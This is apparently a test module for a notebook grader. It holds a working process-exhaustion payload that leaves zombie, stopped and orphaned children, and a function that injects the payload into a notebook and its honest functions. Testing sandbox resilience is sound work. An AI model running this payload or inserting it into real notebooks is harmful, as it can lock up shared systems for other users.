"""Leave dead, stopped and orphaned children, so that no further process can be made."""

from assignments.hostile import first, replaced

ATTACK = """
import os
import signal

def child(number):
    if number % 3 == 0:
        os._exit(0)
    os.setsid()
    if number % 3 == 1:
        os.kill(os.getpid(), signal.SIGSTOP)
    if os.fork():
        os._exit(0)
    os.setpgid(0, 0)
    while True:
        signal.pause()

def attack(*arguments, **options):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN if arguments else signal.SIG_DFL)
    try:
        for number in range(100):
            if os.fork() == 0:
                child(number)
    except OSError:
        pass
"""


def spoil(notebook, honest):
    """Leave them in a cell, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
